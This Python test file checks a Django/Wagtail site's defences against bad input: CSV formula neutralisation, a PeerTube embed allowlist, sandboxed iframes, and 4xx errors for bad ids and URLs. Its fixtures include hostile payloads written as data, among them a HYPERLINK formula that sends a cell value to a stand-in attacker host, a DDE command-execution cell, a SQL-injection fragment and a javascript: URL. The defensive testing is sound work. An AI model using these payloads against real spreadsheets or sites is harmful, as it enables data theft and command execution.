"""Embeds and data against bad input (findings 8 and 9): PeerTube only from the allowlist and a
sandboxed player, CSV cells that a spreadsheet cannot run, and every id or address taken from
the request answered with a 4xx, never a 500."""

import csv
import io
from decimal import Decimal

from django.test import Client, override_settings
from django.urls import reverse

from wagtail.blocks import StructBlockValidationError

import pytest
from bs4 import BeautifulSoup

from home.blocks import VideoBlock, video_frame_sources
from home.spreadsheets import neutralise
from tests.factories import (
    CallIndexPageFactory,
    CallPageFactory,
    FundingCampaignFactory,
    LaureatePageFactory,
    NewsIndexPageFactory,
    NewsPageFactory,
    make_site_tree,
)

pytestmark = pytest.mark.django_db

TOO_BIG = [str(2**63), str(2**64), "9" * 40]
BAD_IDS = [*TOO_BIG, "-1", "abc", "1e3", "%20", "١٢"]  # the last: Arabic-Indic digits


@pytest.fixture
def anonymous():
    return Client(raise_request_exception=False)  # a 500 comes back as a response, not an exception


@pytest.fixture
def programme(db):
    site_tree = make_site_tree()
    index = CallIndexPageFactory(parent=site_tree["home"], slug="appels-a-projets")
    call = CallPageFactory(parent=index, slug="makers", title="Makers 2018")
    laureate = LaureatePageFactory(
        parent=call,
        slug="piege",
        title='=HYPERLINK("https://attaquant.example/?v="&A1;"Cliquez")',
        commune="@SUM(1+1)*cmd|' /C calc'!A0",
        campaign=FundingCampaignFactory(name="Collecte", goal=Decimal("1000"), raised=Decimal("12.50")),
    )
    return {**site_tree, "call": call, "laureate": laureate}


# --- ids and addresses from the request -----------------------------------------------------------

PUBLIC_ID_URLS = [
    ("/api/v1/campaigns/{}/", "json"),
    ("/api/v1/calls/{}/", "json"),
    ("/donnees/appels/{}/laureats.json", "json"),
    ("/donnees/appels/{}/laureats.csv", "json"),
    ("/embed/campaigns/{}/", "html"),
    ("/en/embed/campaigns/{}/", "html"),
    ("/embed/calls/{}/results/", "html"),
    ("/en/embed/calls/{}/results/", "html"),
]


@pytest.mark.parametrize("value", BAD_IDS)
@pytest.mark.parametrize(("pattern", "kind"), PUBLIC_ID_URLS)
def test_public_endpoints_answer_a_bad_id_with_a_404_never_a_500(anonymous, db, pattern, kind, value):
    # No rows needed: SQLite refuses to bind an integer of 2⁶³ or more whatever the table holds.
    response = anonymous.get(pattern.format(value))
    assert response.status_code == 404, (pattern, value, response.status_code)
    if kind == "json":
        assert response.headers["Content-Type"].startswith("application/json")
        assert response.json()["error"]


def test_the_largest_sqlite_id_is_still_an_ordinary_404(anonymous, db):
    response = anonymous.get(f"/api/v1/calls/{2**63 - 1}/")
    assert response.status_code == 404
    assert response.json()["error"] == "Aucun appel à projets publié avec cet identifiant."


def test_any_other_api_address_answers_json(anonymous, db):
    response = anonymous.get("/api/v2/nothing/")
    assert response.status_code == 404
    assert "openapi.json" in response.json()["error"]
    assert response["Access-Control-Allow-Origin"] == "*"


@pytest.mark.parametrize(
    "url",
    [
        "http%3A%2F%2F%5B%3A%3A1",  # the finding: an unclosed IPv6 address
        "http%3A%2F%2F%5B%3A%3A1%5D%3A99999%2F",
        "http%3A%2F%2F%5Bnot-an-ip%5D%2F",
        "http%3A%2F%2Ftestserver%3A99999999%2F",
        "http%3A%2F%2Ftestserver%2F%00",
        "%00",
        "javascript%3Aalert(1)",
        "http%3A%2F%2Ftestserver%2F" + "a%2F" * 500,
    ],
)
def test_oembed_answers_a_bad_address_with_a_json_4xx(anonymous, programme, url):
    response = anonymous.get("/oembed/?url=" + url)
    assert 400 <= response.status_code < 500, (url, response.status_code)
    assert response.json()["error"]


@pytest.mark.parametrize("value", ["-1", "0", "abc", "1e3", "१"])
def test_oembed_answers_bad_dimensions_with_a_400(anonymous, programme, value):
    url = f"http://testserver{programme['laureate'].url}"
    response = anonymous.get("/oembed/", {"url": url, "maxwidth": value})
    assert response.status_code == 400
    assert "maxwidth" in response.json()["error"]


ADMIN_ID_URLS = [
    ("campaigns_chosen_campaign_figures", "/admin/laureats/collecte-choisie/{}/"),
    ("funding_sync_now", "/admin/collectes/{}/synchroniser/"),
    ("partners_invite", "/admin/partners/{}/invite/"),
]


@pytest.fixture
def officer_client(partner_tree):
    client = Client(raise_request_exception=False)
    client.force_login(partner_tree["officer"])
    return client


@pytest.mark.parametrize("value", TOO_BIG)
@pytest.mark.parametrize(("name", "pattern"), ADMIN_ID_URLS)
@pytest.mark.parametrize("method", ["get", "post"])
def test_the_portals_admin_views_answer_a_too_big_id_with_a_404(officer_client, name, pattern, value, method):
    assert reverse(name, args=[1]) == pattern.format(1)
    response = getattr(officer_client, method)(pattern.format(value))
    assert response.status_code == 404, (pattern, value, response.status_code)


@pytest.mark.parametrize("key", ["pas-une-clef", "1", "'; DROP TABLE", "0" * 100])
def test_chosen_campaign_figures_ignore_a_page_key_that_is_not_one(officer_client, key):
    campaign = FundingCampaignFactory(name="Libre")
    response = officer_client.get(reverse("campaigns_chosen_campaign_figures", args=[campaign.pk]), {"page": key})
    assert response.status_code == 200


# --- CSV formulas -------------------------------------------------------------------------------


def read_csv(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_open_data_csv_neutralises_formulas_and_keeps_numbers(anonymous, programme):
    response = anonymous.get(reverse("opendata_call_csv", kwargs={"pk": programme["call"].pk}))
    assert response.status_code == 200
    [row] = read_csv(response)
    assert row["laureate"] == "'" + programme["laureate"].title
    assert row["commune"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["pledged_amount"] == "12.50"  # numbers stay numbers (negative ones too: test_neutralise)
    assert row["goal"] == "1000.00"
    assert row["laureate_id"] == str(programme["laureate"].pk)
    # The JSON says what the laureate is really called: only the spreadsheet cell is protected.
    data = anonymous.get(reverse("opendata_call_json", kwargs={"pk": programme["call"].pk})).json()
    assert data["laureates"][0]["title"] == programme["laureate"].title


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+4", "+4"),
        ("Lille", "Lille"),
        ("", ""),
        (-3, -3),
        (None, None),
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_wagtail_admin_csv_exports_neutralise_formulas_too(partner_tree, officer_client):
    from django.contrib.auth import get_user_model

    admin = get_user_model().objects.create_superuser("chef", "chef@example.org", "pw")
    page = partner_tree["laureate"]
    page.title = '=HYPERLINK("https://attaquant.example")'
    page.save_revision(user=admin).publish(user=admin)
    client = Client(raise_request_exception=False)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


# --- video block --------------------------------------------------------------------------------


def clean_video(url):
    return VideoBlock().clean({"url": url, "title": "Le film", "transcript": ""})


@override_settings(VIDEO_PEERTUBE_HOSTS=["framatube.org"])
def test_peertube_videos_are_accepted_only_from_the_listed_instances():
    assert clean_video("https://framatube.org/w/9c9de5e8-0a1e-484a-b099-e80766180a6d")["url"]
    assert clean_video("https://FRAMATUBE.org/videos/watch/9c9de5e8-0a1e-484a-b099-e80766180a6d")["url"]
    for url in (
        "https://videos.example.com/w/abc",
        "https://framatube.org.attaquant.example/w/abc",
        "https://user@framatube.org/w/abc",
        "https://framatube.org:8443/w/abc",
    ):
        with pytest.raises(StructBlockValidationError) as error:
            clean_video(url)
        message = " ".join(error.value.block_errors["url"].messages)
        assert "n'est pas une instance PeerTube acceptée" in message and "framatube.org" in message, url
    with pytest.raises(StructBlockValidationError) as error:
        clean_video("http://framatube.org/w/abc")
    assert "https://" in " ".join(error.value.block_errors["url"].messages)


@override_settings(VIDEO_PEERTUBE_HOSTS=[])
def test_without_listed_instances_peertube_is_refused_with_a_clear_message():
    with pytest.raises(StructBlockValidationError) as error:
        clean_video("https://framatube.org/w/abc")
    assert "VIDEO_PEERTUBE_HOSTS" in " ".join(error.value.block_errors["url"].messages)
    assert clean_video("https://www.youtube.com/watch?v=dQw4w9WgXcQ")["url"]
    assert clean_video("https://vimeo.com/76979871")["url"]


@override_settings(VIDEO_PEERTUBE_HOSTS=["framatube.org", "tube.example.fr"])
def test_the_frame_sources_are_the_players_and_the_listed_instances():
    assert video_frame_sources() == [
        "https://www.youtube-nocookie.com",
        "https://player.vimeo.com",
        "https://framatube.org",
        "https://tube.example.fr",
    ]


@override_settings(VIDEO_PEERTUBE_HOSTS=["framatube.org"])
@pytest.mark.parametrize(
    ("url", "src"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
        ("https://framatube.org/w/kkGMgK9ZtnKfYAgnEtQxbv", "https://framatube.org/videos/embed/kkGMgK9ZtnKfYAgnEtQxbv"),
    ],
)
def test_every_player_is_framed_sandboxed_and_only_after_the_click(client, url, src):
    index = NewsIndexPageFactory(parent=make_site_tree()["home"], slug="actualites")
    page = NewsPageFactory(parent=index, slug="video")
    page.body = [("video", {"url": url, "title": "Le film", "transcript": ""})]
    page.save_revision().publish()
    document = BeautifulSoup(client.get("/actualites/video/").content, "html.parser")
    [iframe] = document.find_all("iframe")  # (CSS selectors do not look inside a <template>)
    assert iframe.parent.name == "template"  # inert until video.js copies it
    assert not iframe.has_attr("src")
    assert iframe["data-src"] == src
    assert list(iframe["sandbox"]) == ["allow-scripts", "allow-same-origin", "allow-presentation", "allow-popups"]
    assert iframe["allow"] == "autoplay; fullscreen; picture-in-picture"
    assert iframe["referrerpolicy"] == "strict-origin-when-cross-origin"
    assert iframe["title"] == "Le film"


def test_a_stored_video_from_an_instance_no_longer_listed_is_only_a_link(client):
    index = NewsIndexPageFactory(parent=make_site_tree()["home"], slug="actualites")
    page = NewsPageFactory(parent=index, slug="video")
    with override_settings(VIDEO_PEERTUBE_HOSTS=["tube.example.fr"]):
        page.body = [("video", {"url": "https://tube.example.fr/w/abc", "title": "Le film", "transcript": ""})]
        page.save_revision().publish()
    document = BeautifulSoup(client.get("/actualites/video/").content, "html.parser")
    assert document.find("iframe") is None and document.find("template") is None
    assert document.select_one(".video-block a")["href"] == "https://tube.example.fr/w/abc"
